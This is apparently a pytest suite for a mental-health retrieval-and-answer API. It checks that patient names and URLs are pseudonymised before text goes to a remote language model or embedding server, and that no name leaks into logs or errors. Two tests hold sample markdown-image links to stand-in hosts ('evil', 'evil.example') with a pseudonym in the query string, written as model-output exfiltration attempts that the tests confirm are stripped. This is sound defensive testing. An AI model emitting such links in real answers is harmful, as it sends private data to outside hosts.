"""Pseudonyms in what is sent to a language model or an embedding server: what it receives, and what comes back."""

import asyncio
import json
import re
from collections.abc import AsyncIterator
from itertools import pairwise
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mh_common.identifiers import IdentifierKind
from mh_common.models import Answer, PhiMode, QueryOrigin, Source, Usage
from mh_common.outgoing import OutgoingTexts
from mh_common.settings import LogSettings, PHISettings
from mh_devtools.stubs.conversations_stub import StubConversations
from mh_devtools.stubs.openai_stub import CHAT, Fault, StubOpenAI
from mh_devtools.stubs.recognizer_stub import StubRecognizer
from mh_devtools.testing.fixtures import MakeConversation, RunApp, ServeApp, WriteIndex
from mh_devtools.testing.waiting import eventually
from rag_api.answers.generators import GenerationResult, LLMGeneration, Question
from rag_api.answers.llm import SERVER_DEFAULTS, Completion, SamplingParams
from rag_api.answers.prompts import Prompts, make_environment
from rag_api.answers.tokens import EstimatingTokenCounter
from rag_api.settings import AnswersSettings, IntegrationSettings, Settings

PATH = "/api/v1/answers"
STREAM = {"Accept": "text/event-stream"}
NAMES = {
    "Okafor": IdentifierKind.PERSON,
    "Ruiz": IdentifierKind.PERSON,
    "Arkham": IdentifierKind.PLACE,
    "https://arkham.example/help": IdentifierKind.URL,
}
QUESTION = "How do I help Okafor, who cannot fall asleep?"
PERSON = re.compile(r"\[PERSON_\d+\]")


@pytest.fixture
def recognizer(monkeypatch: pytest.MonkeyPatch) -> StubRecognizer:
    """The recognizer of the application."""
    stub = StubRecognizer(NAMES)
    monkeypatch.setattr("rag_api.main.make_recognizer", lambda: stub)
    return stub


@pytest.fixture
async def indexed(index: WriteIndex, conversation: MakeConversation) -> None:
    await index(
        [
            conversation(
                1,
                "How do I help my patient, who cannot fall asleep and read https://arkham.example/help for it?",
                "Ask Ruiz in Arkham about sleep.",
            ),
            conversation(2, "Grief after a loss", "Take a walk each day."),
        ]
    )


@pytest.fixture
async def http() -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(timeout=20) as client:
        yield client


@pytest.fixture
def with_stub(with_remote_model: Settings, recognizer: StubRecognizer) -> Settings:
    """Settings with the stub as a remote language model, in the mode that is the default for one."""
    assert with_remote_model.phi.mode is None
    return with_remote_model


def received(stub: StubOpenAI) -> str:
    """Everything that the language model received, as JSON."""
    return json.dumps(stub.chats(), ensure_ascii=False)


def assert_no_names(text: str) -> None:
    assert [name for name in NAMES if name.casefold() in text.casefold()] == []


def placeholders(body: dict[str, Any]) -> dict[str, str]:
    """The pseudonyms of the question's person and of the first conversation, by what they stand for."""
    user = body["messages"][-1]["content"]
    question = re.search(r"question of the counselor>>>\n(.*)\n", user)
    answer = re.search(r"conversation \[1\]: answer>>>\n(.*)\n", user)
    assert question is not None
    found = {"Okafor": PERSON.findall(question[1])[0]}
    if answer:
        found["Ruiz"] = PERSON.findall(answer[1])[0]
        found["url"] = re.findall(r"\[URL_\d+\]", user)[0]
    return found


def answer_with_names(body: dict[str, Any]) -> str:
    known = placeholders(body)
    return f"Tell {known['Okafor']} to ask {known['Ruiz']} [1]. See {known['url']} too [1]."


async def ask(client: httpx.AsyncClient, **request: Any) -> Answer:
    response = await client.post(PATH, json={"question": QUESTION, "top_k": 1, **request})
    assert response.status_code == 200, response.text
    return Answer.model_validate_json(response.content)


async def test_a_remote_model_gets_pseudonyms_and_the_answer_has_the_names(
    running: RunApp, with_stub: Settings, indexed: None, stub: StubOpenAI, conversations_stub: StubConversations
) -> None:
    stub.reply = answer_with_names
    before = len(conversations_stub.history)
    async with running(with_stub) as client:
        answer = await ask(client)
    # An address of the conversation is known again, and not taken for one that the model made up.
    assert answer.answer == "Tell Okafor to ask Ruiz [1]. See https://arkham.example/help too [1]."
    assert answer.grounded
    assert "Ruiz" in answer.sources[0].answer
    (chat,) = stub.chats()
    assert_no_names(json.dumps(chat))
    system, user = (message["content"] for message in chat["messages"])
    assert "placeholders such as [PERSON_1]" in system
    # Our own words are as they were, and so is the mark of the fences.
    mark = re.search(r"begin with <<<([0-9a-f]{16}) and end with", system)
    assert mark is not None
    assert user.count(f"<<<{mark[1]} ") == 5
    assert user.endswith("Answer the counselor's question from the conversations above, with citations.")
    (entry,) = conversations_stub.history[before:]
    assert (entry.question, entry.answer) == (QUESTION, answer.answer)


async def test_without_identifiers_the_prompt_is_that_without_pseudonyms(
    running: RunApp, with_stub: Settings, index: WriteIndex, conversation: MakeConversation, stub: StubOpenAI
) -> None:
    await index([conversation(1, "My patient cannot fall asleep", "Rise at the same hour.")])
    async with running(with_stub) as client:
        await ask(client, question="How do I help a patient who cannot fall asleep?")
    assert "placeholders" not in received(stub)


async def test_one_map_holds_for_the_follow_up_and_its_history(
    running: RunApp, with_stub: Settings, indexed: None, stub: StubOpenAI
) -> None:
    seen: list[str] = []

    def reply(body: dict[str, Any]) -> str:
        user = body["messages"][-1]["content"]
        if user.endswith("Write the latest question in full."):
            seen.extend(PERSON.findall(user))
            return f"How does {seen[-1]} fall asleep?"
        return f"Tell {placeholders(body)['Okafor']} so [1]."

    stub.reply = reply
    history = [
        {"role": "user", "content": "Okafor is a nurse. Ruiz is her friend."},
        {"role": "assistant", "content": "Let OKAFOR rest [1]."},
    ]
    async with running(with_stub) as client:
        answer = await ask(client, question="How does Okafor fall asleep?", conversation_history=history)
    assert answer.standalone_query == "How does Okafor fall asleep?"
    assert answer.query_origin is QueryOrigin.MODEL
    assert answer.answer == "Tell Okafor so [1]."
    assert_no_names(received(stub))
    # Okafor, Ruiz, Okafor again in the answer and in the question.
    assert len(set(seen)) == 2
    assert len(stub.chats()) == 2


async def test_what_a_program_adds_is_replaced_as_well(
    served: ServeApp, with_stub: Settings, indexed: None, stub: StubOpenAI, http: httpx.AsyncClient
) -> None:
    stub.reply = answer_with_names
    messages = [
        {"role": "system", "content": "Write like Ruiz does, to Arkham."},
        {"role": "user", "content": QUESTION},
    ]
    body = {"model": "mental-health", "messages": messages, "stop": ["Okafor:", "END"], "temperature": 0.5}
    with served(with_stub) as url:
        response = await http.post(f"{url}/v1/chat/completions", json=body)
        plain = await http.post(f"{url}/api/chat", json={"developer_message": "As Ruiz.", "user_message": QUESTION})
    assert "Tell Okafor to ask Ruiz [1]." in response.json()["choices"][0]["message"]["content"]
    assert plain.text.startswith("Tell Okafor to ask Ruiz [1].")
    assert_no_names(received(stub))
    first = stub.chats()[0]
    assert (first["temperature"], first["stop"][1]) == (0.5, "END")
    assert PERSON.match(first["stop"][0])


async def test_a_caller_s_own_key_gets_pseudonyms_too(
    served: ServeApp, with_stub: Settings, indexed: None, stub: StubOpenAI, http: httpx.AsyncClient
) -> None:
    stub.reply = answer_with_names
    keys = with_stub.model_copy(update={"doors": IntegrationSettings(request_keys=True)})
    with served(keys) as url:
        response = await http.post(f"{url}/api/chat", json={"user_message": QUESTION, "api_key": stub.api_key})
    assert response.text.startswith("Tell Okafor to ask Ruiz [1].")
    assert_no_names(received(stub))


async def test_a_pseudonym_that_a_stream_cuts_is_restored(
    served: ServeApp, with_stub: Settings, indexed: None, stub: StubOpenAI, http: httpx.AsyncClient
) -> None:
    stub.reply = answer_with_names
    stub.pieces = list
    with served(with_stub) as url:
        response = await http.post(url + PATH, json={"question": QUESTION, "top_k": 1}, headers=STREAM)
    tokens = [
        json.loads(block.split("data: ", 1)[1])["text"]
        for block in response.text.split("\n\n")
        if block.startswith("event: token")
    ]
    assert "".join(tokens) == "Tell Okafor to ask Ruiz [1]. See https://arkham.example/help too [1]."
    # Sentence by sentence, as each is held against the rules, and not held back until the end.
    assert len(tokens) == 2
    assert_no_names(received(stub))


class PiecewiseModel:
    """A language model that returns a text in pieces."""

    name = "piecewise"

    def __init__(self, pieces: list[str]) -> None:
        self._pieces = pieces

    async def complete(self, messages: Any, deadline: float, sampling: SamplingParams = SERVER_DEFAULTS) -> Completion:
        return Completion("".join(self._pieces), self.name, Usage())

    async def stream(
        self, messages: Any, deadline: float, sampling: SamplingParams = SERVER_DEFAULTS
    ) -> AsyncIterator[str | Completion]:
        for piece in self._pieces:
            yield piece
        yield Completion("", self.name, Usage())


PROMPTS = Prompts(make_environment(), EstimatingTokenCounter(), 8192)
REPLY = "[PERSON_1] and [PERSON_2] met [1] in [PLACE_1]. [PERSON_9] did not [1], [2, 1]. ![x](https://evil/?[PERSON_1])"


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sets(st.integers(0, len(REPLY))))
def test_wherever_a_stream_is_cut_the_answer_is_that_of_the_whole_text(cuts: set[int]) -> None:
    texts = OutgoingTexts(PhiMode.PSEUDONYMISE, StubRecognizer(NAMES))
    sources = [Source(id=1, question="Ruiz?", answer="In Arkham.", score=0.5, relevance=0.5)]
    prompt = PROMPTS.answer("Okafor?", sources, prepare=texts.prepare)
    places = [0, *sorted(cuts), len(REPLY)]
    model = PiecewiseModel([REPLY[start:end] for start, end in pairwise(places)])
    generation = LLMGeneration(model, prompt, PROMPTS.identity, Question("Okafor?"), texts)  # type: ignore[arg-type]

    async def run(*, streamed: bool) -> str:
        pieces = [piece async for piece in generation.run(1e9, streamed=streamed)]
        assert isinstance(pieces[-1], GenerationResult)
        return "".join(piece for piece in pieces if isinstance(piece, str))

    whole = asyncio.run(run(streamed=False))
    assert whole.startswith("Okafor and Ruiz met [1] in Arkham. [PERSON_9] did not [1], [1]. ")
    assert "evil" not in whole
    assert asyncio.run(run(streamed=True)) == whole


async def test_a_name_in_a_link_that_the_model_makes_up_leaks_nothing(
    running: RunApp, with_stub: Settings, indexed: None, stub: StubOpenAI
) -> None:
    stub.reply = lambda body: f"See ![x](https://evil.example/?q={placeholders(body)['Okafor']}) [1]."
    async with running(with_stub) as client:
        answer = await ask(client)
    assert "evil" not in answer.answer


WITHHELD = (
    "No language model was asked: the question, its history or a conversation that was found seems to contain names or "
    "other identifiers (PHI_MODE=refuse).\n\n"
)
PLAIN = "How do I help my patient who cannot fall asleep?"


@pytest.fixture
def refusing(with_stub: Settings) -> Settings:
    """Settings that refuse. The embedding stub is a server as well, and a mode that is set holds for all of them."""
    return with_stub.model_copy(update={"phi": PHISettings(mode=PhiMode.REFUSE)})


async def test_refuse_quotes_if_a_conversation_or_an_instruction_names_somebody(
    served: ServeApp, refusing: Settings, indexed: None, stub: StubOpenAI, http: httpx.AsyncClient
) -> None:
    stub.requests.clear()
    with served(refusing) as url:
        answer = (await http.post(url + PATH, json={"question": PLAIN, "top_k": 1})).json()["answer"]
        body = {"user_message": "Grief after a loss", "developer_message": "Write to Okafor."}
        instructed = (await http.post(f"{url}/api/chat", json=body)).text
    assert answer.startswith(WITHHELD)
    # Chosen without vectors, since the sentences must not be sent to the embedding server either.
    assert "“Ask Ruiz in Arkham about sleep.” [1]" in answer
    assert instructed.startswith(WITHHELD)
    assert stub.chats() == []
    texts = [text for one in stub.requests if one.body and one.path != CHAT for text in one.body["input"]]
    assert_no_names(json.dumps(texts))


async def test_refuse_asks_the_model_where_nobody_is_named(
    running: RunApp, refusing: Settings, index: WriteIndex, conversation: MakeConversation, stub: StubOpenAI
) -> None:
    await index([conversation(1, "My patient cannot fall asleep", "Rise at the same hour.")])
    stub.reply = "Rise at the same hour [1]."
    history = [{"role": "assistant", "content": "Ask Okafor [1]."}]
    async with running(refusing) as client:
        answer = await ask(client, question=PLAIN, conversation_history=history)
    # The history is for rewriting alone, which was done without the model.
    assert (answer.answer, answer.query_origin) == (stub.reply, QueryOrigin.RULE)
    (chat,) = stub.chats()
    assert_no_names(json.dumps(chat))


async def test_refuse_does_not_even_search_for_a_name_at_a_server(
    running: RunApp, refusing: Settings, indexed: None, stub: StubOpenAI
) -> None:
    stub.requests.clear()
    async with running(refusing) as client:
        for path, body in ((PATH, {"question": QUESTION}), ("/api/v1/search", {"query": QUESTION})):
            response = await client.post(path, json=body)
            assert response.status_code == 422
            assert "PHI_MODE=refuse" in response.json()["detail"]
            assert "mode keyword" in response.json()["detail"]
            assert "Okafor" not in response.text
        words = await client.post("/api/v1/search", json={"query": "Ruiz", "mode": "keyword"})
    assert words.json()["total_hits"] == 1
    assert stub.requests == []


async def test_a_recognizer_that_fails_lets_nothing_out_and_nothing_is_told_of_the_text(
    running: RunApp,
    with_stub: Settings,
    indexed: None,
    stub: StubOpenAI,
    recognizer: StubRecognizer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    recognizer.broken = True
    history = [{"role": "user", "content": "Okafor is a nurse."}]
    async with running(with_stub.model_copy(update={"log": LogSettings(level="DEBUG")})) as client:
        answer = await ask(client, conversation_history=history)
        stream = await client.post(PATH, json={"question": QUESTION, "top_k": 1}, headers=STREAM)
    assert stub.chats() == []
    assert (answer.model, answer.query_origin) == ("extractive", QueryOrigin.RULE)
    reason = "a conversation that was found could not be checked for names and other identifiers."
    assert reason in answer.answer.split("\n\n")[0]
    assert reason in stream.text
    logged = capsys.readouterr().out
    assert "identifiers_unreadable" in logged
    assert_no_names(logged)


async def test_off_is_off_if_somebody_says_so(
    running: RunApp, with_stub: Settings, indexed: None, stub: StubOpenAI
) -> None:
    async with running(with_stub.model_copy(update={"phi": PHISettings(mode=PhiMode.OFF)})) as client:
        await ask(client)
    assert "Okafor" in received(stub)


async def test_no_name_is_logged_measured_or_told_in_errors(
    served: ServeApp, with_stub: Settings, indexed: None, stub: StubOpenAI, http: httpx.AsyncClient, capfd: Any
) -> None:
    debug = with_stub.model_copy(update={"log": LogSettings(level="DEBUG")})
    with served(debug) as url:
        stub.reply = answer_with_names
        await http.post(url + PATH, json={"question": QUESTION, "show_sent": True})
        stub.add_faults(Fault(body='{"error": {"message": "Okafor"}}', path=CHAT))
        failed = await http.post(url + PATH, json={"question": QUESTION})
        metrics = (await http.get(f"{url}/metrics")).text
    assert failed.status_code == 502
    assert_no_names(failed.json()["detail"])
    assert_no_names(metrics + "".join(capfd.readouterr()))


async def test_a_disconnect_stops_a_model_whose_text_is_held_back(
    served: ServeApp, with_stub: Settings, indexed: None, stub: StubOpenAI, http: httpx.AsyncClient
) -> None:
    stub.add_faults(Fault(stall=True, path=CHAT))
    stub.reply = "[PERSON_1 and so on and on"
    patient = {
        "answers": AnswersSettings(time_limit=100, max_retries=0),
        "openai": with_stub.openai.model_copy(update={"timeout": 100}),
    }
    with served(with_stub.model_copy(update=patient)) as url:
        request = http.post(url + PATH, json={"question": QUESTION, "top_k": 1}, headers=STREAM)
        task = asyncio.create_task(request)
        await eventually(lambda: len(stub.chats()) == 1)
        task.cancel()
        await asyncio.wait([task])
        await eventually(lambda: stub.abandoned == 1)


class TestEmbeddingServer:
    """Queries for an embedding server that gets pseudonyms: here the stub, since the mode is set."""

    @pytest.fixture
    def settings(self, settings: Settings) -> Settings:
        return settings.model_copy(update={"phi": PHISettings(mode=PhiMode.PSEUDONYMISE)})

    async def test_queries_and_quotes_are_embedded_with_pseudonyms_in_their_own_space(
        self, running: RunApp, settings: Settings, recognizer: StubRecognizer, indexed: None, stub: StubOpenAI
    ) -> None:
        stub.requests.clear()
        async with running(settings) as client:
            answer = await ask(client, show_sent=True)
            about = (await client.get("/api/v1/about")).json()
            similar = await client.get("/api/v1/conversations/1/similar")
        assert answer.model == "extractive"
        assert similar.status_code == 200
        texts = [text for one in stub.requests if one.body for text in one.body["input"]]
        assert any("[PERSON_1]" in text for text in texts)
        assert_no_names(json.dumps(texts))
        assert about["embedding"]["name"] == "stub-embedding+pseudonyms"
        assert about["embedding"]["phi_mode"] == "pseudonymise"
        assert answer.sent is not None
        assert_no_names(json.dumps([call.model_dump() for call in answer.sent]))

    async def test_an_index_of_texts_as_they_are_is_not_searched_with_pseudonyms(
        self, running: RunApp, settings: Settings, recognizer: StubRecognizer, indexed: None
    ) -> None:
        plain = settings.model_copy(update={"phi": PHISettings()})
        async with running(plain) as client:
            response = await client.post("/api/v1/search", json={"query": "sleep"})
        assert response.status_code == 503
        assert "stub-embedding+pseudonyms" in response.json()["detail"]
        assert "mh index rebuild" in response.json()["detail"]

    async def test_a_recognizer_that_fails_refuses_the_query_but_not_the_words(
        self, running: RunApp, settings: Settings, recognizer: StubRecognizer, indexed: None, stub: StubOpenAI
    ) -> None:
        recognizer.broken = True
        stub.requests.clear()
        async with running(settings) as client:
            refused = await client.post("/api/v1/search", json={"query": "Okafor sleeps"})
            words = await client.post("/api/v1/search", json={"query": "asleep", "mode": "keyword"})
        assert refused.status_code == 422
        assert "could not be checked" in refused.json()["detail"]
        assert "Okafor" not in refused.text
        assert words.json()["total_hits"] == 1
        assert stub.requests == []
